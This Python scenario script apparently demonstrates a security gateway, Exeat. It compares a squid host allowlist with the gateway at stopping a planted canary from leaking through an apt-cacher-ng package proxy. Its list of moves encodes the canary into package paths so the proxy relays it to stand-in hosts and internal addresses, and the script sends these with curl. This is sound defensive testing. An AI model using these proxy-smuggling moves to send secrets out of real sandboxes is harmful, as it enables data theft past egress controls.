"""
`make scenario`: the case that this project comes from, with real programs. A sandbox may use one package proxy, an apt-cacher-ng as
Debian ships it, and nothing else. Act 1: a squid with an allowlist of hosts stands before it, and a canary leaves through the package
proxy. Act 2: Exeat stands there, and the same moves are stopped, each with its record. Act 3: the audit finds what the package proxy does for
anybody, prints the policy that keeps sandboxes from it, and closes the service; with that policy in force the same probes come to nothing, and what is left only the package
proxy can mend. Act 4: hardened, the package proxy passes, and the door opens. The sandbox has a network of its own, from
which one wire leads to the door. Status 0: it went as it must.
"""
import argparse
import base64
import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass, field
from pathlib import Path

import acng
from manifest import head
from upstream import PORTS, Upstream
from world import IMPOSSIBLE, NAKED, NAMES, PATIENCE, POSSIBLE, SERVICE, World, wait_until

PACKAGES = "packages.test"
DOOR, INSIDE = "10.77.0.1", "10.77.0.2"
SQUID_PORT, EXEAT_PORT, AUDITOR_PORT = 3128, 3129, 3130
ARCHIVE = f"http://{PACKAGES}:{acng.PORT}/fxrep/debian"
FAR = ("unlisted.test", "internal.test", "127.0.0.30", "upstream.test")
COLOUR = sys.stdout.isatty() and not os.environ.get("NO_COLOR")

SQUID = """\
http_port {door}:{port}
pid_filename none
cache_effective_user proxy
cache deny all
access_log stdio:{directory}/access.log
cache_log {directory}/cache.log
visible_hostname squid.test
hosts_file {directory}/hosts
shutdown_lifetime 0 seconds
pinger_enable off
netdb_filename none
acl listed dstdomain {packages}
http_access deny !listed
http_access allow all
"""

EXEAT = """\
gateway: {{ name: gw.test, state: . }}
listen:
  explicit: {{ address: "{door}:{port}" }}
  auditor: {{ address: "{service}:{auditor}" }}
issuers:
  local: {{ jwks: issuer/local.jwks, key: issuer/local.key }}
{services}canaries: {{ file: canaries.json, on-leak: block }}
journal: {{ directory: journal }}
publish: {{ address: "127.0.0.1:9464" }}
admin: {{ address: "unix:admin.sock" }}
"""


# What somebody wrote who knew the package proxy's paths.
SERVICES = f"""\
services:
  packages:
    allow: ["GET,HEAD /fxrep/debian/dists/**", "GET,HEAD /fxrep/debian/pool/**"]
    hosts: [{PACKAGES}]
    plain-ports: [{acng.PORT}]
    addresses: ["{SERVICE}:{acng.PORT}"]
    scope: packages:read
"""
WAIVED = '    audit: "waived: act 3 audits it"\n'
MANIFEST = """\
    kind: http
    protected: [/fxrep/debian/pool/main/exeat-hello_1.0_all.deb]
    fetch: "/fxrep/debian/pool/{nonce}_1.0_all.deb"
    write: "/fxrep/debian/pool/{nonce}_2.0_all.deb"
    admin: [/acng-report.html]
    clients: { preset: debian-read, preset-path: /fxrep/debian }
"""
# What a program without logins cannot do, and its owner takes upon himself, for a while.
ACCEPTED = """\
    accept:
      AN-1: ["it has no logins, and is reached through the gateway alone until {date}"]
      AS-10: ["it has no logins until {date}"]
      RL-11: ["names of packages go to the listed archive alone until {date}"]
"""
CONDUIT = ("RL-1", "RL-4", "RL-8", "FU-6", "CN-4")  # what Act 1 went out by


def paint(code, text):
    return f"\033[{code}m{text}\033[0m" if COLOUR else text


def say(text=""):
    print(text, flush=True)


class Failed(Exception):
    """A step did not go as it must."""


def must(true, text, more=""):
    say(f"    {paint('32', 'ok    ') if true else paint('31', 'FAILED')} {text}")
    if not true:
        raise Failed(more)


# ---- the moves


@dataclass
class Move:
    title: str
    target: str  # {canary} is the value, {name} its Base64 without padding
    far: str     # who must not hear of it
    heard: bool = True  # does he, in Act 1?


MOVES = [
    Move("straight to a host that is not listed", "http://unlisted.test/drop?c={canary}", "unlisted.test", heard=False),
    Move("the package proxy is asked for another host's index", "http://{packages}/unlisted.test/dists/{canary}/InRelease", "unlisted.test"),
    Move("the same in Base64, as the name of a package", "http://{packages}/unlisted.test/pool/{name}_1.0_all.deb", "unlisted.test"),
    Move("it fetches from an internal host", "http://{packages}/internal.test/pool/{name}_2.0_all.deb", "internal.test"),
    Move("it fetches from an address without a name", "http://{packages}/127.0.0.30/pool/{name}_3.0_all.deb", "127.0.0.30"),
    Move("it follows its upstream to an internal host", "http://{packages}/fxrep/pool/to/internal.test/{name}_4.0_all.deb", "internal.test"),
    Move("the canary as the name of a package of the listed upstream", "http://{packages}/fxrep/debian/pool/{canary}_5.0_all.deb", "upstream.test"),
]


@dataclass
class Act:
    name: str
    heard: dict = field(default_factory=dict)  # by title: what the far end received
    answers: dict = field(default_factory=dict)


class Scenario:
    def __init__(self, exeat, top):
        self.exeat, self.top, self.reports = exeat, top, exeat.parent / "scenario"
        self.reports.mkdir(exist_ok=True)
        self.outside = World(top / "outside", NAMES | {PACKAGES: SERVICE})
        self.sandbox = World(top / "sandbox", {"door": DOOR})
        self.directory, self.module, self.world = self.outside.directory, acng, self.outside

    def close(self):
        self.sandbox.close()
        self.outside.close()

    # ---- the stage

    def build(self):
        say(paint("1", "The stage"))
        self.outside.directory.chmod(0o755)
        self.outside.join(self.sandbox, DOOR, INSIDE)
        self.upstream = Upstream(self.outside)
        self.archive = debian_archive(self.top / "archive")
        self.upstream.pages.update(self.archive)
        self.outside.resolver()
        self.setting = "debian-default"
        acng.start(self)
        must(True, f"a package proxy, apt-cacher-ng as Debian ships it: {PACKAGES}:{acng.PORT}")
        self.start_exeat()
        self.canary = self.run_exeat("canary", "new", "--kind", "generic", "--sandbox", "vm1").strip()
        self.run_exeat("reload")
        must(len(self.canary) > 20, "a canary, planted in sandbox vm1: " + self.canary)

    def start_squid(self):
        directory = self.outside.directory
        (directory / "squid.conf").write_text(SQUID.format(door=DOOR, port=SQUID_PORT, directory=directory, packages=PACKAGES))
        shutil.chown(directory, "proxy")
        program = shutil.which("squid", path=os.environ.get("PATH", "") + ":/usr/sbin")
        self.outside.run("squid", program, "-N", "-f", directory / "squid.conf")
        self.outside.ready(SQUID_PORT, DOOR)

    def configure(self, services):
        (self.state / "proxy.conf").write_text(EXEAT.format(door=DOOR, port=EXEAT_PORT, auditor=AUDITOR_PORT, service=SERVICE, services=services))

    def start_exeat(self):
        state = self.state = self.top / "gateway"
        subprocess.run([self.exeat, "-q", "init", state, "--name", "gw.test"], check=True)
        self.configure(SERVICES + WAIVED)
        self.outside.run("exeat", self.exeat, "-c", state / "proxy.conf", "serve")
        self.outside.ready(EXEAT_PORT, DOOR)

    def run_exeat(self, *words, status=0):
        done = subprocess.run([self.exeat, "-c", self.state / "proxy.conf", *map(str, words)], capture_output=True, text=True)
        if done.returncode != status:
            raise Failed(f"exeat {' '.join(map(str, words))}: {done.returncode}\n{done.stderr}{done.stdout}")
        return done.stdout

    def audit(self, name, *words):
        """
        The audit of the package proxy; it plays the archive and the far ends meanwhile, and the gateway goes by what it finds.
        Its answer.
        """
        self.upstream.close()
        path, page = self.top / "manifest.yaml", self.reports / f"{name}.html"
        text = head("packages", acng.PORT).replace(f"http://{SERVICE}:", f"http://{PACKAGES}:")
        path.write_text(text + f"    address: {SERVICE}\n" + MANIFEST)
        command = [self.exeat, "audit", "packages", "-m", path, "--active", "--tenant2", "--issuer-key", "--beacon", "--rate", "100",
                   "--requests", "900", "--format", "json", "--html", page, "--policy", self.reports / f"{name}.yaml", "--attest", "-c",
                   self.state / "proxy.conf", *words]
        done = subprocess.run(self.outside.enter(*command), pass_fds=[self.outside.namespace], capture_output=True, text=True,
                              timeout=2 * PATIENCE)
        if done.returncode not in (0, 1):
            raise Failed(f"exeat audit: {done.returncode}\n{done.stderr}")
        self.upstream = Upstream(self.outside)
        self.upstream.pages.update(self.archive)
        self.run_exeat("reload")
        return json.loads(done.stdout)

    def audit_through(self, name):
        """The same, and what is weak once more through the gateway, as a sandbox."""
        token = self.top / "audit.jwt"
        self.run_exeat("token", "issue", "--sandbox", "audit", "--scope", "packages:read", "--output", token)
        return self.audit(name, "--through", f"{SERVICE}:{AUDITOR_PORT}", "--leave-token", token)

    # ---- what the sandbox does

    def inside(self, *command):
        return subprocess.run(self.sandbox.enter(*command), pass_fds=[self.sandbox.namespace], stdin=subprocess.DEVNULL,
                              capture_output=True, text=True, timeout=2 * PATIENCE)

    def proxy(self):
        token = self.run_exeat("token", "issue", "--sandbox", "vm1", "--scope", "packages:read").strip()
        return f"http://jwt:{token}@{DOOR}:{EXEAT_PORT}"

    def install(self, proxy, verbs=(["update"], ["install", "-y", "--download-only", "exeat-hello"])):
        """apt, the real client, gets a package."""
        home = Path(tempfile.mkdtemp(prefix="apt-", dir=self.top))
        for d in ("lists/partial", "cache/archives/partial", "etc/apt.conf.d", "etc/preferences.d", "etc/trusted.gpg.d"):
            (home / d).mkdir(parents=True)
        (home / "sources.list").write_text(f"deb [trusted=yes arch=amd64] {ARCHIVE} stable main\n")
        (home / "status").touch()
        options = {"Dir": home, "Dir::Etc": home / "etc", "Dir::Etc::SourceList": home / "sources.list", "Dir::State": home,
                   "Dir::State::Lists": home / "lists", "Dir::State::status": home / "status", "Dir::Cache": home / "cache", "APT::Architecture": "amd64",
                   "Acquire::http::Proxy": proxy, "Acquire::Languages": "none", "APT::Sandbox::User": "root", "Acquire::Retries": "0"}
        words = [w for k, v in options.items() for w in ("-o", f"{k}={v}")]
        environment = ["env", "-i", f"PATH={os.environ['PATH']}", "APT_CONFIG=/dev/null"]
        for verb in verbs:
            done = self.inside(*environment, "apt-get", "-q", *words, *verb)
            must(done.returncode == 0, f"apt-get {' '.join(verb)}", done.stdout + done.stderr)
        got = home / "cache/archives/exeat-hello_1.0_all.deb"
        must(got.exists() and got.read_bytes() == self.upstream.pages["/debian/pool/main/exeat-hello_1.0_all.deb"], "the package is whole")

    def move(self, act, move, proxy):
        self.upstream.clear()
        name = base64.urlsafe_b64encode(self.canary.encode()).decode().rstrip("=")
        url = move.target.format(packages=f"{PACKAGES}:{acng.PORT}", canary=self.canary, name=name)
        done = self.inside("curl", "-q", "-sS", "-i", "--max-time", "30", "-H", "Connection: close", "-x", proxy, url)
        act.answers[move.title] = (done.stdout.splitlines() or [done.stderr.strip()])[0]
        act.heard[move.title] = [s for s in self.upstream.seen(move.far) if self.canary in s.head.decode() or name in s.head.decode()]
        return act.heard[move.title]

    # ---- the acts

    def act_1(self):
        say(paint("1", "\nAct 1. An allowlist of hosts: squid, `dstdomain packages.test`"))
        act, proxy = Act("squid"), f"http://{DOOR}:{SQUID_PORT}"
        self.start_squid()
        self.install(proxy)
        for move in MOVES:
            heard = self.move(act, move, proxy)
            if move.heard:
                must(bool(heard), f"{move.title}: {paint('31', move.far + ' has the canary')}", act.answers[move.title])
                say(f"             {heard[0].line[:110]}")
            else:
                must(not heard, f"{move.title}: stopped, {act.answers[move.title]}")
        return act

    def act_2(self):
        say(paint("1", "\nAct 2. Exeat, the same moves"))
        act, proxy = Act("exeat"), self.proxy()
        self.install(proxy)
        for move in MOVES:
            heard = self.move(act, move, proxy)
            must(not heard, f"{move.title}: {act.answers[move.title]}", str([s.head for s in heard]))
            self.show_record(act.answers[move.title])
        must(True, self.run_exeat("log", "verify").strip().splitlines()[0])
        return act

    def act_3(self):
        say(paint("1", "\nAct 3. The audit of the package proxy, and the door"))
        self.configure(SERVICES)
        found = self.audit("weak")
        checks = {c["check"]: c for c in found["checks"]}
        must(not found["passing"], f"exeat audit packages --attest: it does not pass; {found['counts']['fail']} fail, {found['requests']} requests")
        for name in CONDUIT:
            c = checks[name]
            must(c["verdict"] == "fail", f"{name} ({c['severity']}), {c['title']} {c['note']}", str(c))
        self.show_policy(found["policy"])
        self.is_closed()
        self.apply_policy(found["policy"])

    def is_closed(self):
        done = self.inside("curl", "-q", "-sS", "-i", "-x", self.proxy(), f"{ARCHIVE}/dists/stable/Release")
        answer = (done.stdout.splitlines() or [done.stderr])[0]
        must("handoff_unattested" in answer, f"the service is closed: {answer}", done.stdout)
        self.show_record(answer)

    def show_policy(self, policy):
        must(set(CONDUIT) <= set(policy["covers"] + policy["by-itself"] + [o["check"] for o in policy["only-service"]]),
             "the policy that it prints for the gateway:", str(policy))
        for line in policy["yaml"].splitlines():
            say(paint("36", f"             {line}"))

    def apply_policy(self, policy):
        """In proxy.conf as it was printed; waived for as long as the audit is at work, since a closed service lets none of its probes in."""
        self.policy = policy["yaml"]
        self.configure(self.policy + WAIVED)
        self.run_exeat("config", "check")
        self.run_exeat("reload")
        must(True, "the policy is in proxy.conf; the same probes again, through the gateway: exeat audit packages --through")
        checks = {c["check"]: c for c in self.audit_through("closed")["checks"]}
        for name in policy["covers"] + policy["by-itself"]:
            must(checks[name]["covered"], f"{name}, {checks[name]['title']} Covered: {checks[name].get('through', {}).get('note', '')}", str(checks[name]))
        for only in policy["only-service"]:
            must(not checks[only["check"]]["covered"], f"{only['check']}, {checks[only['check']]['title']} Not covered, as the policy said: {checks[only['check']]['note']}", str(checks[only["check"]]))
        self.install(self.proxy())
        self.configure(self.policy)
        self.run_exeat("reload")
        must(True, "apt installs through that policy. What only the package proxy can mend still stands against it:")
        self.is_closed()

    def act_4(self):
        say(paint("1", "\nAct 4. The package proxy, hardened"))
        self.outside.stop(self.process)
        self.setting = "hardened"
        acng.start(self)
        self.configure(self.policy + ACCEPTED.format(date=time.strftime("%Y-%m-%d", time.gmtime(time.time() + 90 * 86400))))
        found = self.audit("hardened")
        for a in found["accepted"]:
            say(f"           accepted {a['check']}: {a['reason']}")
        bad = [c for c in found["checks"] if c["severity"] in ("critical", "high") and c["verdict"] not in ("pass", "n/a")]
        must(found["passing"], f"exeat audit packages --attest: it passes; {found['counts']['pass']} pass, {found['requests']} requests",
             "\n".join(f"{c['check']} {c['severity']} {c['verdict']}: {c['note']}" for c in bad))
        self.install(self.proxy())
        must(True, "the door is open")

    def show_record(self, answer):
        """The refusal has a record of its own, which `exeat why` tells."""
        words = answer.split(" ")
        if len(words) != 5 or words[2] != "exeat":
            raise Failed(f"no refusal of the gateway's: {answer}")
        record = wait_until(lambda: self.record(words[4], words[3]), f"the record of {words[4]}")
        say(f"             record {record['seq']}, exchange {record['id']}: {record['reason']}, sandbox {record['sandbox']}")

    def record(self, short, reason):
        found = subprocess.run([self.exeat, "-c", self.state / "proxy.conf", "log", "query", "--format", "json", "--kind", "decision", "--id", short],
                               capture_output=True, text=True).stdout.splitlines()
        return next((r for r in map(json.loads, found) if r["reason"] == reason and r["action"] == "deny"), None)

    def compare(self, one, two):
        say(paint("1", "\nWhat the far ends received with the canary in it"))
        say(f"    {'':62} squid  exeat")
        for move in MOVES:
            say(f"    {move.title:62} {len(one.heard[move.title]):5}  {len(two.heard[move.title]):5}")
        must(sum(map(len, one.heard.values())) >= 6 and not any(two.heard.values()), "through squid it got out by six ways, through Exeat by none")


def debian_archive(directory):
    """An archive with one package, as {path: bytes}."""
    tree = directory / "deb"
    (tree / "DEBIAN").mkdir(parents=True)
    control = "Package: exeat-hello\nVersion: 1.0\nArchitecture: all\nMaintainer: x <x@y.test>\nDescription: a word from the archive\n"
    (tree / "DEBIAN/control").write_text(control)
    subprocess.run(["dpkg-deb", "--root-owner-group", "-b", tree, directory / "hello.deb"], check=True, capture_output=True)
    deb = (directory / "hello.deb").read_bytes()
    packages = (f"{control}Filename: pool/main/exeat-hello_1.0_all.deb\nSize: {len(deb)}\nSHA256: {hashlib.sha256(deb).hexdigest()}\n\n").encode()
    release = ("Origin: lab\nSuite: stable\nCodename: stable\nArchitectures: all amd64\nComponents: main\nDate: Thu, 01 Jan 2026 00:00:00 UTC\n"
               f"SHA256:\n {hashlib.sha256(packages).hexdigest()} {len(packages)} main/binary-amd64/Packages\n").encode()
    return {"/debian/dists/stable/Release": release, "/debian/dists/stable/main/binary-amd64/Packages": packages,
            "/debian/pool/main/exeat-hello_1.0_all.deb": deb}


def main():
    parser = argparse.ArgumentParser(prog="scenario", description=__doc__)
    parser.add_argument("exeat", type=Path)
    parser.add_argument("--keep", action="store_true", help="leave the directory where everything was written")
    args = parser.parse_args()
    if not POSSIBLE:
        sys.exit("scenario: " + IMPOSSIBLE)
    top = Path(tempfile.mkdtemp(prefix="exeat-scenario-"))
    top.chmod(0o755)
    signal.signal(signal.SIGTERM, signal.default_int_handler)
    scenario, status = Scenario(args.exeat.absolute(), top), 1
    try:
        scenario.build()
        one = scenario.act_1()
        two = scenario.act_2()
        scenario.compare(one, two)
        scenario.act_3()
        scenario.act_4()
        say(f"\nThe reports: {scenario.reports}/weak.html, closed.html (through the policy) and hardened.html; the policy: weak.yaml")
        status = 0
    except (Failed, AssertionError) as e:
        say(f"{e}\nThe programs' logs: {top}")
    except KeyboardInterrupt:
        status = 130
    finally:
        scenario.close()
        if not args.keep and status == 0:
            shutil.rmtree(top)
    sys.exit(status)


if __name__ == "__main__":
    main()
